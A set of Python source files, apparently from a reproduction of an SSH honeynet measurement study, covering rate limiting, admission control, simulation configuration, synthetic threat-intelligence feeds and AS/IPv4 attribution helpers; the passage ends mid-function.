    assert faults.daily_session_budget is not None
    return AdmissionController(
        budget=faults.daily_session_budget,
        queue_capacity=faults.sensor_queue_capacity,
        shed_probability=faults.shed_probability,
        tree=tree,
    )
