"""Token buckets on the virtual clock: per-client rate limiting.

The admission controller (:mod:`repro.overload.admission`) guards the
*ingest* boundary with a daily budget; the query/status service
(:mod:`repro.service`) needs the classic per-client shape instead — a
refill rate and a burst allowance, so a polling dashboard is smooth and
a scripted hammer is clipped.  The bucket runs on the same virtual
clock as every other supervision primitive: callers pass ``now`` (never
wall time), so a verdict sequence is a pure function of the arrival
schedule — replaying the same seeded load model yields the same
accept/reject ledger byte for byte.

This module must not import :mod:`repro.config`.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class TokenBucket:
    """One principal's budget: ``rate_per_s`` refill, ``burst`` capacity.

    The bucket starts full (a fresh client may burst immediately).
    Refill is continuous on the virtual clock — no timer thread, no
    wall-clock dependency, so the verdict for the Nth request depends
    only on the N-1 arrivals before it.
    """

    rate_per_s: float
    burst: float
    tokens: float = field(init=False)
    updated_at: float = field(default=0.0, init=False)

    def __post_init__(self) -> None:
        if self.rate_per_s <= 0.0:
            raise ValueError("rate_per_s must be positive")
        if self.burst < 1.0:
            raise ValueError("burst must be at least 1")
        self.tokens = self.burst

    def allow(self, now: float, cost: float = 1.0) -> bool:
        """Spend ``cost`` tokens at virtual instant ``now`` if available."""
        if now > self.updated_at:
            self.tokens = min(
                self.burst,
                self.tokens + (now - self.updated_at) * self.rate_per_s,
            )
            self.updated_at = now
        if self.tokens >= cost:
            self.tokens -= cost
            return True
        return False


@dataclass
class ClientRateLimiter:
    """A lazily-populated bucket per client id, all on one policy."""

    rate_per_s: float
    burst: float
    _buckets: dict[str, TokenBucket] = field(
        default_factory=dict, init=False, repr=False
    )
    allowed: int = field(default=0, init=False)
    limited: int = field(default=0, init=False)

    def allow(self, client_id: str, now: float) -> bool:
        bucket = self._buckets.get(client_id)
        if bucket is None:
            bucket = TokenBucket(rate_per_s=self.rate_per_s, burst=self.burst)
            bucket.updated_at = now
            self._buckets[client_id] = bucket
        if bucket.allow(now):
            self.allowed += 1
            return True
        self.limited += 1
        return False

    @property
    def clients(self) -> int:
        return len(self._buckets)
