"""Overload robustness: admission control, load shedding, watchdogs.

The collection pipeline survives *absence* faults (outages, churn),
*transport* faults (loss, duplication) and *storage* faults (corruption,
crashes) — this package adds the fourth domain: **too much traffic**.

* :mod:`repro.overload.admission` — the bounded-ingest gate: a per-day
  fleet-wide admission budget, priority-aware deterministic load
  shedding (state-changing sessions are kept, scanner no-ops are shed
  first) and bounded per-sensor deferral queues, all accounted under
  the collector's conservation law (``admitted``/``shed``/``deferred``
  extend the ledger).
* :mod:`repro.overload.watchdog` — per-shard soft/hard deadlines for
  the parallel engine: a stalled worker is detected, cancelled at the
  hard deadline, and salvaged through the bounded-retry → serial-
  fallback ladder.
* :mod:`repro.overload.tokenbucket` — per-client token buckets on the
  virtual clock, the rate-limiting rung of the query/status service's
  overload ladder (:mod:`repro.service`).

The arrival side of overload (the seeded scan-flood generator) lives in
:mod:`repro.faults.flood` with the other fault injectors; this package
holds the *defences*.  Neither module imports :mod:`repro.config` — the
knobs arrive as :class:`~repro.faults.plan.FloodFaults` values and
plain floats, so the package sits beside ``faults`` in the layering.
"""

from repro.overload.admission import (
    ADMIT,
    DEFER,
    SHED,
    AdmissionController,
    build_admission_controller,
    record_priority,
)
from repro.overload.tokenbucket import (
    ClientRateLimiter,
    TokenBucket,
)
from repro.overload.watchdog import (
    DeadlinePolicy,
    ShardDeadlineExceeded,
)

__all__ = [
    "ADMIT",
    "DEFER",
    "SHED",
    "AdmissionController",
    "ClientRateLimiter",
    "DeadlinePolicy",
    "ShardDeadlineExceeded",
    "TokenBucket",
    "build_admission_controller",
    "record_priority",
]
