"""Global configuration for the honeynet simulation and analysis pipeline.

The paper analyses 33 months of traffic (December 2021 through August
2024) against 221 honeypots.  Absolute paper volumes (hundreds of
millions of sessions) are far beyond what a reproduction needs to hold in
memory, so every volume in the simulator is multiplied by
``SimulationConfig.scale``.  All distributional findings in the paper are
ratios, shares and trends, which are preserved at any scale.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field
from datetime import date

from repro.faults.plan import (
    PAPER_OUTAGE_END,
    PAPER_OUTAGE_START,
    FaultProfile,
)
from repro.honeypot.cowrie import DEFAULT_SESSION_TIMEOUT_S

#: First day of the observation window (paper section 3.3).
WINDOW_START = date(2021, 12, 1)
#: Last day of the observation window (paper section 3.3).
WINDOW_END = date(2024, 8, 31)

#: The honeynet maintenance outage: no sessions recorded for 48 hours
#: on October 8-9, 2023 (paper section 3.3).  Kept as module constants
#: for backward compatibility; the canonical definition lives in
#: :mod:`repro.faults.plan` and on ``FaultProfile.paper()``.
OUTAGE_START = PAPER_OUTAGE_START
OUTAGE_END = PAPER_OUTAGE_END


@dataclass(frozen=True)
class SimulationConfig:
    """Parameters controlling dataset generation.

    Attributes:
        seed: master seed; every derived random stream is a pure function
            of this value, so runs are exactly reproducible.
        scale: multiplier applied to the paper's absolute session volumes.
            ``scale=1.0`` would regenerate the full 546M-session dataset;
            the default of ``2e-5`` yields roughly 11k SSH sessions, which
            keeps the full pipeline under a second while preserving every
            ratio the experiments measure.
        start: first simulated day (inclusive).
        end: last simulated day (inclusive).
        n_honeypots: fleet size (221 in the paper).
        n_countries: number of countries hosting honeypots (55).
        n_honeypot_ases: number of distinct ASes hosting honeypots (65).
        session_timeout_s: honeypot-side idle timeout.  Defaults to the
            sensor's own constant
            (:data:`repro.honeypot.cowrie.DEFAULT_SESSION_TIMEOUT_S`,
            three minutes) so config and sensor cannot drift.
        include_telnet: also simulate the Telnet side of the honeynet
            (the paper records it but analyses only SSH).
        faults: the fault-injection profile (see :mod:`repro.faults`).
            The default, ``FaultProfile.paper()``, models exactly the
            paper's deployment — only the October 2023 outage, no
            sensor churn, a lossless collection path — and reproduces
            the pre-fault-model pipeline byte for byte.
        workers: process count for the parallel execution engine
            (:mod:`repro.parallel`).  ``1`` (the default) runs the
            original serial day-loop and serial DLD matrix; ``N > 1``
            shards the simulated window across ``N`` worker processes
            and chunks the O(n²) distance matrix over the same pool.
            The output is digest-identical at every worker count, so
            this knob trades wall-clock for cores, never correctness —
            it is deliberately excluded from checkpoint fingerprints
            and dataset cache keys.
        shard_deadline_s: hard wall-clock deadline per shard attempt for
            the parallel engine's hung-worker watchdog (``None`` — the
            default — disables the watchdog).  An execution knob like
            ``workers``: it can change which code path produced a batch
            (cancel → retry → serial fallback), never the bytes in it,
            so it too is excluded from fingerprints and cache keys.
    """

    seed: int = 7
    scale: float = 2e-5
    start: date = WINDOW_START
    end: date = WINDOW_END
    n_honeypots: int = 221
    n_countries: int = 55
    n_honeypot_ases: int = 65
    session_timeout_s: float = DEFAULT_SESSION_TIMEOUT_S
    include_telnet: bool = True
    faults: FaultProfile = field(default_factory=FaultProfile.paper)
    workers: int = 1
    shard_deadline_s: float | None = None

    def __post_init__(self) -> None:
        if self.scale <= 0:
            raise ValueError(f"scale must be positive, got {self.scale}")
        if self.start > self.end:
            raise ValueError("start must not be after end")
        if self.n_honeypots < 1:
            raise ValueError("need at least one honeypot")
        if self.workers < 1:
            raise ValueError(f"workers must be at least 1, got {self.workers}")
        if self.shard_deadline_s is not None and self.shard_deadline_s <= 0:
            raise ValueError(
                f"shard_deadline_s must be positive, got {self.shard_deadline_s}"
            )

    def scaled(self, paper_count: float) -> float:
        """Return ``paper_count`` scaled to this configuration."""
        return paper_count * self.scale

    def replace(self, **changes: object) -> "SimulationConfig":
        """Return a copy with the given fields replaced."""
        return dataclasses.replace(self, **changes)


@dataclass(frozen=True)
class PaperNumbers:
    """Headline numbers reported by the paper, used for comparisons.

    Every experiment report prints its measured (scaled) value next to
    the corresponding paper value so that EXPERIMENTS.md can record the
    paper-vs-measured shape comparison.
    """

    total_sessions: int = 635_000_000
    ssh_sessions: int = 546_000_000
    unique_client_ips: int = 850_000
    scanning_sessions: int = 45_000_000
    scouting_sessions: int = 258_000_000
    intrusion_sessions: int = 80_000_000
    command_sessions: int = 163_000_000
    non_state_sessions: int = 94_000_000
    state_sessions: int = 69_000_000
    state_no_exec_sessions: int = 54_000_000
    exec_sessions: int = 15_000_000
    exec_file_exists_sessions: int = 3_000_000
    exec_file_missing_sessions: int = 12_000_000
    unique_hashes: int = 16_257
    abusedb_labeled_hashes: int = 700
    regex_categories: int = 59
    clusters: int = 90
    storage_ips: int = 3_000
    download_client_ips: int = 32_000
    storage_ases: int = 388
    storage_hosting_ases: int = 358
    storage_isp_ases: int = 30
    storage_down_ases: int = 36
    mdrfckr_sessions: int = 46_000_000
    mdrfckr_client_ips: int = 270_000
    login3245_sessions: int = 24_000_000
    login3245_client_ips: int = 125_000
    mdrfckr_ip_overlap: float = 0.994
    phil_sessions: int = 30_000
    phil_client_ips: int = 10_000
    phil_ases: int = 1_000
    curl_maxred_sessions: int = 200_000
    curl_maxred_requests: int = 20_000_000
    curl_maxred_client_ips: int = 4
    curl_maxred_honeypots: int = 180
    killnet_overlap_ips: int = 988
    base64_upload_ips: int = 1_624
    shadowserver_mdrfckr_hosts: int = 13_000


#: Module-level singleton with the paper's reported numbers.
PAPER = PaperNumbers()

#: Default configuration used by tests and the quickstart example.
DEFAULT_CONFIG = SimulationConfig()

#: Larger configuration used by the benchmark harness.
BENCH_CONFIG = SimulationConfig(scale=1e-4)
