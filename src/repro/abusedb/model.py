"""Data model for synthetic abuse-database records."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class HashRecord:
    """One labelled file hash in an abuse feed."""

    sha256: str
    label: str          # family name ("Mirai", ...) or "Malicious"
    source: str         # which feed knows it


@dataclass(frozen=True)
class IPRecord:
    """One reported IP in an abuse feed."""

    ip: str
    tag: str            # e.g. "malware-distribution", "c2", "ddos"
    source: str
