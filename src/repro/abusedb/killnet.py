"""Killnet proxy-IP blocklist stand-in (section 9).

The paper cross-references mdrfckr client IPs against the Killnet proxy
list and finds 988 overlapping addresses — evidence the actor's
infrastructure also serves DDoS operations.  The synthetic list mixes a
slice of the actor's pool with unrelated noise addresses.
"""

from __future__ import annotations

from repro.net.population import BasePopulation
from repro.net.ipv4 import int_to_ip
from repro.util.rng import RngTree

#: Paper overlap: 988 of ~270k actor IPs (≈0.4 %); at reproduction
#: scales the pool is small, so a slightly larger slice keeps the
#: overlap observable (documented deviation).
OVERLAP_FRACTION = 0.05
MIN_OVERLAP = 2
NOISE_MULTIPLIER = 4


def build_killnet_list(
    actor_ips: list[str],
    population: BasePopulation,
    tree: RngTree,
) -> set[str]:
    """A proxy blocklist overlapping the actor's client pool."""
    rng = tree.child("killnet").rand()
    overlap_count = max(
        MIN_OVERLAP, min(len(actor_ips), round(len(actor_ips) * OVERLAP_FRACTION))
    )
    ordered = sorted(actor_ips)
    overlap = set(rng.sample(ordered, overlap_count)) if ordered else set()
    noise: set[str] = set()
    target_noise = overlap_count * NOISE_MULTIPLIER + 8
    while len(noise) < target_noise:
        record = population.weighted_client_as(rng)
        noise.add(int_to_ip(record.random_ip(rng)))
    return overlap | noise
