"""Synthetic abuse feeds (abuse.ch / VirusTotal / Team Cymru /
ArmstrongTechs stand-ins).

What matters for the reproduction is the *coverage structure* the paper
measures against (section 6): only ~5 % of observed hashes resolve to a
label (variants defeat hash lookups; not everything gets reported), the
mdrfckr persistence key is labelled CoinMiner/Malicious, the TV-box and
2024-resurgence samples are labelled Mirai, and 56 % of storage IPs
have been reported (section 7).

Coverage decisions are deterministic functions of the hash/IP value, so
the same artifact is labelled identically across runs and scales.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.abusedb.model import HashRecord, IPRecord
from repro.attackers.malware import MalwareFactory, MalwareFamily, MalwareSample
from repro.util.hashing import sha256_hex

#: Per-mille of variant hashes that resolve to a label (paper: <5 %).
HASH_COVERAGE_PER_MILLE = 43
#: Of labelled hashes, per-mille labelled generically "Malicious"
#: instead of with their family.
GENERIC_LABEL_PER_MILLE = 120
#: Percent of storage IPs previously reported (paper: 56 %).
IP_COVERAGE_PERCENT = 56

#: Strains whose classic hashes every feed knows (section 6/8).
ALWAYS_KNOWN_STRAINS = {
    "tvbox", "Corona", "Kyton", "Ares", "classic", "wave", "xor", "hybrid",
}


def _hash_bucket(sha256: str, modulus: int = 1000) -> int:
    return int(sha256[:12], 16) % modulus


def _ip_bucket(ip: str, modulus: int = 100) -> int:
    return int(sha256_hex(ip)[:12], 16) % modulus


@dataclass
class AbuseFeed:
    """One threat-intelligence source."""

    name: str
    hash_records: dict[str, HashRecord] = field(default_factory=dict)
    ip_records: dict[str, IPRecord] = field(default_factory=dict)

    def lookup_hash(self, sha256: str) -> HashRecord | None:
        return self.hash_records.get(sha256)

    def lookup_ip(self, ip: str) -> IPRecord | None:
        return self.ip_records.get(ip)

    def add_hash(self, sha256: str, label: str) -> None:
        self.hash_records[sha256] = HashRecord(sha256, label, self.name)

    def add_ip(self, ip: str, tag: str) -> None:
        self.ip_records[ip] = IPRecord(ip, tag, self.name)


def _label_for(sample: MalwareSample) -> str | None:
    """Which label (if any) the ecosystem knows for a sample hash."""
    digest = sample.sha256
    if sample.strain in ALWAYS_KNOWN_STRAINS and _hash_bucket(digest) < 400:
        return sample.family.value
    if _hash_bucket(digest) >= HASH_COVERAGE_PER_MILLE:
        return None
    if sample.family == MalwareFamily.UNKNOWN:
        return "Malicious"
    if _hash_bucket(digest, 1000) % 997 < GENERIC_LABEL_PER_MILLE:
        return "Malicious"
    return sample.family.value


def build_feeds(
    factory: MalwareFactory,
    storage_ips: list[str],
    extra_hashes: dict[str, str] | None = None,
) -> list[AbuseFeed]:
    """Construct the four feeds from the ground-truth catalogue.

    ``extra_hashes`` maps hash → label for artifacts known outside the
    malware catalogue (e.g. the mdrfckr persistence key).
    """
    abusech = AbuseFeed("abuse.ch")
    virustotal = AbuseFeed("VirusTotal")
    cymru = AbuseFeed("TeamCymru")
    armstrong = AbuseFeed("ArmstrongTechs")

    for digest, sample in factory.catalogue.items():
        label = _label_for(sample)
        if label is None:
            continue
        virustotal.add_hash(digest, label)  # VT aggregates everything
        spread = _hash_bucket(digest, 3)
        if spread == 0:
            abusech.add_hash(digest, label)
        elif spread == 1:
            armstrong.add_hash(digest, label)
    for digest, label in (extra_hashes or {}).items():
        virustotal.add_hash(digest, label)
        abusech.add_hash(digest, label)

    for ip in storage_ips:
        if _ip_bucket(ip) < IP_COVERAGE_PERCENT:
            cymru.add_ip(ip, "malware-distribution")
            if _ip_bucket(ip, 7) == 0:
                abusech.add_ip(ip, "malware-distribution")

    return [abusech, virustotal, cymru, armstrong]
