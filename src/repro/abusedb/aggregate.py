"""Facade over all abuse feeds ("the abuse datasets", section 3.4)."""

from __future__ import annotations

from dataclasses import dataclass

from repro.abusedb.feeds import AbuseFeed, build_feeds
from repro.abusedb.model import HashRecord, IPRecord
from repro.attackers.malware import MalwareFactory


@dataclass
class AbuseDatasets:
    """Cross-feed lookup interface used by all analyses."""

    feeds: list[AbuseFeed]

    def lookup_hash(self, sha256: str) -> HashRecord | None:
        """First feed that knows the hash wins (they agree on labels)."""
        for feed in self.feeds:
            record = feed.lookup_hash(sha256)
            if record is not None:
                return record
        return None

    def label(self, sha256: str) -> str | None:
        record = self.lookup_hash(sha256)
        return None if record is None else record.label

    def lookup_ip(self, ip: str) -> IPRecord | None:
        for feed in self.feeds:
            record = feed.lookup_ip(ip)
            if record is not None:
                return record
        return None

    def is_reported_ip(self, ip: str) -> bool:
        return self.lookup_ip(ip) is not None

    def known_hashes(self) -> set[str]:
        known: set[str] = set()
        for feed in self.feeds:
            known.update(feed.hash_records)
        return known

    def feed(self, name: str) -> AbuseFeed:
        for feed in self.feeds:
            if feed.name == name:
                return feed
        raise KeyError(name)


def build_abuse_datasets(
    factory: MalwareFactory,
    storage_ips: list[str],
    extra_hashes: dict[str, str] | None = None,
) -> AbuseDatasets:
    """Construct the aggregate from the simulation's ground truth."""
    return AbuseDatasets(build_feeds(factory, storage_ips, extra_hashes))
