"""Synthetic abuse databases and threat-intelligence feeds."""

from repro.abusedb.aggregate import AbuseDatasets, build_abuse_datasets
from repro.abusedb.feeds import (
    ALWAYS_KNOWN_STRAINS,
    HASH_COVERAGE_PER_MILLE,
    IP_COVERAGE_PERCENT,
    AbuseFeed,
    build_feeds,
)
from repro.abusedb.model import HashRecord, IPRecord
from repro.abusedb.shadowserver import (
    CompromisedSshReport,
    build_shadowserver_report,
)

__all__ = [
    "AbuseDatasets",
    "build_abuse_datasets",
    "ALWAYS_KNOWN_STRAINS",
    "HASH_COVERAGE_PER_MILLE",
    "IP_COVERAGE_PERCENT",
    "AbuseFeed",
    "build_feeds",
    "HashRecord",
    "IPRecord",
    "CompromisedSshReport",
    "build_shadowserver_report",
]
