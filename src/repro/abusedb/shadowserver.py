"""Shadowserver-style "Compromised SSH Host" special report (section 9).

The report lists hosts carrying known-malicious public SSH keys; the
paper found the mdrfckr key on >13k servers, the most prevalent key in
the dataset.  We synthesize the same structure at simulation scale.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.util.hashing import sha256_hex
from repro.util.rng import RngTree


@dataclass
class CompromisedSshReport:
    """Counts of compromised hosts per malicious key."""

    hosts_by_key: dict[str, int] = field(default_factory=dict)

    def host_count(self, key_hash: str) -> int:
        return self.hosts_by_key.get(key_hash, 0)

    def most_prevalent(self) -> str | None:
        if not self.hosts_by_key:
            return None
        return max(self.hosts_by_key, key=self.hosts_by_key.get)


def build_shadowserver_report(
    mdrfckr_key: str,
    rapperbot_key: str,
    scale: float,
    tree: RngTree,
) -> CompromisedSshReport:
    """Synthesize the report with the mdrfckr key most prevalent."""
    rng = tree.child("shadowserver").rand()
    mdrfckr_hosts = max(6, int(round(13_000 * scale * 50)))
    report = CompromisedSshReport()
    report.hosts_by_key[sha256_hex(mdrfckr_key)] = mdrfckr_hosts
    report.hosts_by_key[sha256_hex(rapperbot_key)] = max(
        2, int(mdrfckr_hosts * rng.uniform(0.15, 0.35))
    )
    # a long tail of other malicious keys
    for index in range(12):
        fake_key = f"ssh-rsa AAAA-tail-{index}"
        report.hosts_by_key[sha256_hex(fake_key)] = max(
            1, int(mdrfckr_hosts * rng.uniform(0.01, 0.12))
        )
    return report
