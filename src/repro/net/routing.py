"""Prefix deaggregation helpers (Figure 8(b) size analysis).

The paper deaggregates every announcement into /24s so AS sizes are
comparable regardless of how aggregated their announcements are.
"""

from __future__ import annotations

from repro.net.asn import ASRecord
from repro.net.ipv4 import Prefix


def deaggregate(prefixes: list[Prefix]) -> list[Prefix]:
    """Split arbitrary prefixes into the equivalent list of /24s."""
    result: list[Prefix] = []
    for prefix in prefixes:
        if prefix.length > 24:
            raise ValueError(
                f"cannot deaggregate {prefix} (longer than /24)"
            )
        result.extend(Prefix(base, 24) for base in prefix.slash24_bases())
    return result


def count_slash24(prefixes: list[Prefix]) -> int:
    """Number of /24s covered by ``prefixes`` (no materialization)."""
    return sum(prefix.num_slash24 for prefix in prefixes)


def size_bucket(record: ASRecord) -> str:
    """Figure 8(b)'s three size buckets for an AS."""
    n = record.num_slash24
    if n == 1:
        return "one /24"
    if n < 50:
        return "less than 50 /24"
    return "more than 50 /24"
