"""Autonomous-system registry: types, registration dates, announcements.

Reproduces the role of bgp.tools / PeeringDB / historical WHOIS in the
paper (section 3.5): every IP used in the simulation can be attributed
to an AS, the AS has a type tag (CDN / Hosting / ISP-NSP / Other), a
registration date, and a set of announced prefixes that can be
deaggregated into /24s for the Figure 8(b) size analysis.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import date
from enum import Enum

from repro.net.ipv4 import MAX_IPV4, Prefix, is_reserved, slash24_base


class ASType(str, Enum):
    """The four AS categories the paper distinguishes (section 3.5)."""

    CDN = "CDN"
    HOSTING = "Hosting"
    ISP_NSP = "ISP/NSP"
    OTHER = "Other"


@dataclass
class ASRecord:
    """One autonomous system in the synthetic registry."""

    asn: int
    name: str
    as_type: ASType
    registered: date
    prefixes: list[Prefix] = field(default_factory=list)
    country: str = "ZZ"
    withdrawn: date | None = None

    @property
    def num_slash24(self) -> int:
        """Total announced address space in /24 units (deaggregated)."""
        return sum(prefix.num_slash24 for prefix in self.prefixes)

    def is_announcing(self, on: date) -> bool:
        """Whether the AS announces prefixes on the given day."""
        if on < self.registered:
            return False
        if self.withdrawn is not None and on >= self.withdrawn:
            return False
        return True

    def age_years(self, on: date) -> float:
        """AS age in (fractional) years at ``on``."""
        return max(0.0, (on - self.registered).days / 365.25)

    def random_ip(self, rng: random.Random) -> int:
        """Pick a host address announced by this AS."""
        if not self.prefixes:
            raise ValueError(f"AS{self.asn} announces no prefixes")
        prefix = rng.choice(self.prefixes)
        return prefix.random_ip(rng)


class PrefixAllocator:
    """Hands out non-overlapping /24-aligned blocks of IPv4 space.

    Blocks are carved sequentially from routable space, skipping reserved
    ranges, so every AS in the registry announces disjoint prefixes.
    """

    def __init__(self, start: int = 0x01000000) -> None:
        self._cursor = start

    def allocate(self, n_slash24: int) -> list[Prefix]:
        """Allocate ``n_slash24`` /24 blocks as a minimal set of prefixes.

        The count is decomposed into powers of two so the AS announces
        realistic aggregates (e.g. 50 /24s → one /19, one /20, one /23).
        """
        if n_slash24 < 1:
            raise ValueError("must allocate at least one /24")
        prefixes: list[Prefix] = []
        remaining = n_slash24
        while remaining > 0:
            chunk = 1 << (remaining.bit_length() - 1)
            prefixes.append(self._allocate_chunk(chunk))
            remaining -= chunk
        return prefixes

    def _allocate_chunk(self, n_slash24: int) -> Prefix:
        length = 24 - (n_slash24.bit_length() - 1)
        span = n_slash24 << 8
        cursor = self._cursor
        while True:
            aligned = (cursor + span - 1) // span * span
            if aligned + span - 1 > MAX_IPV4:
                raise RuntimeError("IPv4 space exhausted by allocator")
            if not is_reserved(aligned) and not is_reserved(aligned + span - 1):
                self._cursor = aligned + span
                return Prefix(aligned, length)
            cursor = aligned + span


class ASRegistry:
    """All ASes known to the simulation, with (ip, date) attribution."""

    def __init__(self) -> None:
        self._records: dict[int, ASRecord] = {}
        self._by_slash24: dict[int, int] = {}
        self._allocator = PrefixAllocator()
        self._next_asn = 64500

    def __len__(self) -> int:
        return len(self._records)

    def __contains__(self, asn: int) -> bool:
        return asn in self._records

    @property
    def records(self) -> list[ASRecord]:
        return list(self._records.values())

    def get(self, asn: int) -> ASRecord:
        return self._records[asn]

    def create(
        self,
        as_type: ASType,
        registered: date,
        n_slash24: int,
        name: str | None = None,
        country: str = "ZZ",
        withdrawn: date | None = None,
    ) -> ASRecord:
        """Register a new AS announcing ``n_slash24`` /24s of fresh space."""
        asn = self._next_asn
        self._next_asn += 1
        prefixes = self._allocator.allocate(n_slash24)
        record = ASRecord(
            asn=asn,
            name=name or f"AS-{as_type.name}-{asn}",
            as_type=as_type,
            registered=registered,
            prefixes=prefixes,
            country=country,
            withdrawn=withdrawn,
        )
        self._records[asn] = record
        for prefix in prefixes:
            for base in prefix.slash24_bases():
                self._by_slash24[base] = asn
        return record

    def lookup_asn(self, address: int) -> int | None:
        """Map an IP integer to its announcing ASN (date-agnostic)."""
        return self._by_slash24.get(slash24_base(address))

    def lookup(self, address: int) -> ASRecord | None:
        asn = self.lookup_asn(address)
        if asn is None:
            return None
        return self._records[asn]

    def of_type(self, as_type: ASType) -> list[ASRecord]:
        return [r for r in self._records.values() if r.as_type == as_type]

    def registered_between(self, start: date, end: date) -> list[ASRecord]:
        """ASes whose registration date falls in ``[start, end]``."""
        return [
            r for r in self._records.values() if start <= r.registered <= end
        ]
