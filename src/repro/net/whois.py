"""Historical (ip, timestamp) → AS attribution.

Stands in for the back-to-the-future WHOIS service the paper uses
(Streibelt et al.): attribution is evaluated *as of the session date*,
so an AS registered after a session does not attribute that session,
and a withdrawn ("down") AS stops attributing once withdrawn.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date

from repro.net.asn import ASRecord, ASRegistry, ASType
from repro.net.ipv4 import ip_to_int


@dataclass(frozen=True)
class WhoisResult:
    """One historical attribution answer."""

    asn: int
    name: str
    as_type: ASType
    registered: date
    age_years: float
    num_slash24: int
    announcing: bool


class HistoricalWhois:
    """Answers "which AS announced this IP on this date?" queries."""

    def __init__(self, registry: ASRegistry) -> None:
        self._registry = registry

    def lookup(self, address: str | int, on: date) -> WhoisResult | None:
        """Attribute ``address`` as of date ``on``.

        Returns ``None`` for unrouted space or for ASes registered after
        ``on`` (the space did not exist yet from WHOIS's perspective).
        """
        value = ip_to_int(address) if isinstance(address, str) else address
        record = self._registry.lookup(value)
        if record is None or on < record.registered:
            return None
        return self._result(record, on)

    def lookup_record(self, address: str | int, on: date) -> ASRecord | None:
        """Like :meth:`lookup` but returning the raw registry record."""
        value = ip_to_int(address) if isinstance(address, str) else address
        record = self._registry.lookup(value)
        if record is None or on < record.registered:
            return None
        return record

    def _result(self, record: ASRecord, on: date) -> WhoisResult:
        return WhoisResult(
            asn=record.asn,
            name=record.name,
            as_type=record.as_type,
            registered=record.registered,
            age_years=record.age_years(on),
            num_slash24=record.num_slash24,
            announcing=record.is_announcing(on),
        )
