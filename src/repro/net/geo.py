"""Country catalogue for honeypot placement and client origin.

The honeynet spans 55 countries (paper section 3.1); weights skew the
client population the way residential attack traffic typically skews.
"""

from __future__ import annotations

import random

#: (ISO code, relative weight) — 60 countries so any 55-subset works.
COUNTRIES: list[tuple[str, float]] = [
    ("US", 9.0), ("CN", 9.0), ("DE", 6.0), ("RU", 6.0), ("BR", 5.0),
    ("IN", 5.0), ("NL", 4.0), ("FR", 4.0), ("GB", 4.0), ("KR", 4.0),
    ("VN", 3.5), ("ID", 3.0), ("SG", 3.0), ("JP", 3.0), ("HK", 3.0),
    ("UA", 2.5), ("PL", 2.5), ("IT", 2.5), ("ES", 2.0), ("CA", 2.0),
    ("TR", 2.0), ("TW", 2.0), ("TH", 2.0), ("MX", 1.5), ("AR", 1.5),
    ("RO", 1.5), ("CZ", 1.5), ("SE", 1.5), ("CH", 1.2), ("AT", 1.2),
    ("BE", 1.2), ("AU", 1.2), ("ZA", 1.0), ("EG", 1.0), ("NG", 1.0),
    ("KE", 0.8), ("CL", 0.8), ("CO", 0.8), ("PE", 0.6), ("MY", 0.8),
    ("PH", 0.8), ("PK", 0.8), ("BD", 0.8), ("IR", 0.8), ("IQ", 0.5),
    ("SA", 0.6), ("AE", 0.6), ("IL", 0.6), ("GR", 0.6), ("PT", 0.6),
    ("HU", 0.6), ("BG", 0.6), ("RS", 0.5), ("HR", 0.4), ("SK", 0.4),
    ("LT", 0.4), ("LV", 0.4), ("EE", 0.4), ("FI", 0.6), ("NO", 0.6),
]


def country_codes() -> list[str]:
    """All known country codes."""
    return [code for code, _ in COUNTRIES]


def pick_countries(rng: random.Random, count: int) -> list[str]:
    """Choose ``count`` distinct countries, weight-biased, for placement."""
    if count > len(COUNTRIES):
        raise ValueError(
            f"only {len(COUNTRIES)} countries available, asked for {count}"
        )
    codes = [code for code, _ in COUNTRIES]
    weights = [weight for _, weight in COUNTRIES]
    chosen: list[str] = []
    pool = list(zip(codes, weights))
    for _ in range(count):
        total = sum(w for _, w in pool)
        point = rng.random() * total
        cumulative = 0.0
        for index, (code, weight) in enumerate(pool):
            cumulative += weight
            if point <= cumulative:
                chosen.append(code)
                pool.pop(index)
                break
    return chosen


def random_country(rng: random.Random) -> str:
    """Weighted random country for a client AS."""
    total = sum(weight for _, weight in COUNTRIES)
    point = rng.random() * total
    cumulative = 0.0
    for code, weight in COUNTRIES:
        cumulative += weight
        if point <= cumulative:
            return code
    return COUNTRIES[-1][0]
