"""Minimal IPv4 arithmetic used throughout the simulator.

We avoid the stdlib ``ipaddress`` module on hot paths: sessions carry
plain dotted-quad strings and the AS registry indexes /24 blocks by
integer base, which keeps lookups to a dict access.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

MAX_IPV4 = 2**32 - 1


def ip_to_int(text: str) -> int:
    """Parse a dotted-quad IPv4 address into an integer."""
    parts = text.split(".")
    if len(parts) != 4:
        raise ValueError(f"invalid IPv4 address: {text!r}")
    value = 0
    for part in parts:
        octet = int(part)
        if octet < 0 or octet > 255:
            raise ValueError(f"invalid IPv4 octet in {text!r}")
        value = (value << 8) | octet
    return value


def int_to_ip(value: int) -> str:
    """Format an integer as a dotted-quad IPv4 address."""
    if value < 0 or value > MAX_IPV4:
        raise ValueError(f"IPv4 integer out of range: {value}")
    return ".".join(str((value >> shift) & 0xFF) for shift in (24, 16, 8, 0))


def slash24_base(value: int) -> int:
    """Return the base address of the /24 containing ``value``."""
    return value & ~0xFF


@dataclass(frozen=True)
class Prefix:
    """An IPv4 prefix (network base integer + mask length)."""

    network: int
    length: int

    def __post_init__(self) -> None:
        if self.length < 0 or self.length > 32:
            raise ValueError(f"invalid prefix length {self.length}")
        if self.network & (self.hostmask()) != 0:
            raise ValueError("network bits set below the mask")
        if self.network < 0 or self.network > MAX_IPV4:
            raise ValueError("network out of IPv4 range")

    def hostmask(self) -> int:
        return (1 << (32 - self.length)) - 1

    @property
    def num_addresses(self) -> int:
        return 1 << (32 - self.length)

    @property
    def num_slash24(self) -> int:
        """Number of /24 blocks covered (1 for /24 and longer)."""
        if self.length >= 24:
            return 1
        return 1 << (24 - self.length)

    def contains(self, address: int) -> bool:
        return (address & ~self.hostmask()) == self.network

    def slash24_bases(self) -> list[int]:
        """All /24 base addresses inside this prefix."""
        return [self.network + (i << 8) for i in range(self.num_slash24)]

    def random_ip(self, rng: random.Random) -> int:
        """A uniformly random host address inside the prefix.

        Avoids the .0 and .255 addresses of the containing /24 so that
        generated client IPs look like plausible hosts.
        """
        base = self.network + rng.randrange(self.num_slash24) * 256
